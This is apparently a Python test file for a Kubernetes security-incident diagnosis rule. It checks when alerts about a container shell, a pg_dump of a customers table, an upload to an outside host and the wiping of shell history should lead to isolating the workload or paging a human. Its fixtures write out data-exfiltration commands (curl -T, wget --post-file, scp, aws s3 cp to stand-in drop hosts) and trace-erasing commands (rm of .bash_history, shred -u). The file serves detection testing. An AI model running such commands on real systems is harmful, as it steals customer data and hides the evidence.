"""What tools that watch see done by hand: tables go where nothing here knows, traces are rubbed out; or it is work."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP, WELL
from tests.diagnosis.rules.test_intrusion__obeyed import RESTARTS
from tests.diagnosis.rules.tiny import at, pod, postgres, snapshot, thing, timed, workload
from tuheg_ir.diagnosis.model import Log, Snapshot

DROP = "203.0.113.99"
Told = tuple[float, str, str]
EXEC: Told = (900, "Notice A shell was spawned in a container with an attached terminal", "process=bash command=bash")
DUMP: Told = (800, "Notice Program run with terminal", "process=pg_dump command=pg_dump -h postgres -t customers shop")
SENT: Told = (
    600,
    "Notice Unexpected outbound connection destination",
    f"connection=10.1.9.1:5123->{DROP}:443 process=curl command=curl -sS -T /tmp/.a/p1 https://up.drop.test/k",
)
HISTORY: Told = (300, "Warning Shell history had been deleted or renamed", "file=/home/app/.bash_history command=bash")
SHRED: Told = (200, "Warning Bulk data has been removed from disk", "process=shred command=shred -u /tmp/.a/p1")
ALL = (EXEC, DUMP, SENT, HISTORY, SHRED)
COPY = "[77] user=web,db=shop,app=psql,client={address} LOG:  statement: COPY public.customers TO stdout"


def saying(told: Told, says: str, what: str = "") -> Told:
    """Return what was seen, with another command or connection, and other words."""
    return told[0], what or told[1], says


def seen(
    *told: Told,
    name: str = "shop",
    kind: str = "Deployment",
    terminal: str = "34816",
    watcher: str = "falco",
    on: tuple[int, ...] = (),
    json: bool = False,
    key: str = "k8s_pod_name",
    settings: str = "",
    copied: bool = False,
    later: float = 0,
) -> Snapshot:
    """Return a workload, and what a tool that watches tells of its pods.

    ``on``: the pod that each is told of, the first if nothing is said. ``later``: how much longer ago all was.
    ``copied``: the database's log tells of a table that was copied out.
    """
    lines = []
    for number, (age, what, says) in enumerate(told):
        index = on[number] if on else 0
        which = f"{name}-{index}" if kind == "StatefulSet" else pod(name, index)
        line = f"{at(age + later)[11:19]}.123456789: {what} (user=root {says} terminal={terminal} {key}={which})"
        whole = f'{{"output":"{line}","priority":"Notice","time":"{at(age + later)}"}}'
        lines.append((age + later, whole if json else line))
    objects = workload(name, kind=kind, env={"DB_HOST": "postgres"})
    mine = next(each["status"]["podIP"] for each in objects if each["kind"] == "Pod")
    sql = Log("postgres-0", "postgres", (f"{at(780)} {COPY.format(address=mine)}",))
    more: list[Any] = [thing("ConfigMap", "notes", data={"README.md": settings})] if settings else []
    return snapshot(
        objects,
        postgres(),
        workload(watcher, f"docker.io/tools/{watcher}:1", kind="DaemonSet", service=False),
        more,
        logs=[timed(f"{watcher}-0", *lines, of=watcher), *([sql] if copied else [])],
        figures=[WELL],
    )


def sent_by(command: str, far: str = DROP) -> Snapshot:
    """Return that a dump was made, files were sent by another command, and traces were rubbed out."""
    says = f"connection=10.1.9.1:5123->{far}:443 process=x command={command}"
    return seen(EXEC, DUMP, saying(SENT, says), HISTORY, SHRED)


HOLDS = [
    *(
        Holds(
            f"somebody takes tables by hand, sends them away, and rubs it out: {what}",
            world,
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=RESTARTS,
        )
        for what, world in (
            ("in lines of text", seen(*ALL)),
            ("in lines of JSON", seen(*ALL, json=True)),
            ("with the older name of a pod", seen(*ALL, key="k8s.pod")),
            ("as another tool tells it", seen(*ALL, watcher="sysdig")),
            ("the database tells of the dump", seen(EXEC, SENT, HISTORY, SHRED, copied=True)),
            ("by a form", sent_by("curl -F f=@/tmp/.a/p1 https://up.drop.test/k")),
            ("by a post", sent_by("curl -sX POST --data-binary @/tmp/.a/p1 https://up.drop.test/k")),
            ("by wget", sent_by("wget -q --post-file=/tmp/.a/p1 https://up.drop.test/k")),
            ("by scp", sent_by(f"scp /tmp/.a/p1 x@{DROP}:/in")),
            ("into a bucket", sent_by("aws s3 cp /tmp/.a/p1 s3://drop-k2/p1")),
            (
                "the history by a command",
                seen(EXEC, DUMP, SENT, saying(HISTORY, "command=rm -f /home/app/.bash_history", "Notice x"), SHRED),
            ),
        )
    ),
    *(
        Holds(
            f"a person has to judge who sent tables away by hand: {what}",
            world,
            (SHOP, "security_incident", "page_human"),
            excludes=no(*RESTARTS, at=SHOP),
            harmful=(*RESTARTS, "isolate_workload"),
        )
        for what, world in (
            ("nothing was hidden", seen(EXEC, DUMP, SENT)),
            ("the history was kept, and files were tidied up", seen(EXEC, DUMP, SENT, SHRED)),
            ("a shell rewrote its history as it ended", seen(EXEC, DUMP, SENT, HISTORY)),
            ("it was hours ago", seen(*ALL, later=3 * 3600)),
        )
    ),
    Holds(
        "a database is not cut off before a person has looked",
        seen(*ALL, name="redis", kind="StatefulSet"),
        ("StatefulSet/redis", "security_incident", "page_human"),
        harmful=(*RESTARTS, "isolate_workload"),
    ),
]
DOES_NOT_HOLD = [
    *(
        DoesNotHold(f"a colleague works in a pod: {what}", world, harmful=("isolate_workload",))
        for what, world in (
            ("he opens a shell", seen(EXEC)),
            ("he dumps, and keeps it", seen(EXEC, DUMP, HISTORY, SHRED)),
            ("he dumps, and the database tells of it", seen(EXEC, HISTORY, copied=True)),
            ("he sends files, and took none from a database", seen(EXEC, SENT, HISTORY, SHRED)),
            ("he sends them within the cluster", sent_by("curl -T /tmp/p1 http://minio:9000/b/p1", "10.1.7.7")),
            ("he fetches a tool", sent_by("curl -sSLo /usr/local/bin/jq https://dl.tools.test/jq")),
            ("he asks a partner's API", sent_by('curl -d {"id":7} https://api.partner.test/v1')),
            ("he sent something before he dumped", seen(EXEC, (850, *SENT[1:]), DUMP, HISTORY, SHRED)),
            ("he sends it to a place that is written down", seen(*ALL, settings="dumps: https://up.drop.test/k")),
            ("one dumps in one pod, another sends from the other", seen(*ALL, on=(0, 0, 1, 1, 1))),
            ("no terminal: the program does it itself", seen(*ALL, terminal="0")),
            ("no tool that watches tells it", seen(*ALL, watcher="mirror")),
        )
    ),
    *(
        DoesNotHold(f"it is made for this: {what}", world, harmful=("isolate_workload",))
        for what, world in (
            ("a run", seen(*ALL, name="ops-session", kind="Job")),
            ("a runner of builds", seen(*ALL, name="gitlab-runner")),
            ("a workshop of its users' code", seen(*ALL, name="jupyter")),
        )
    ),
]
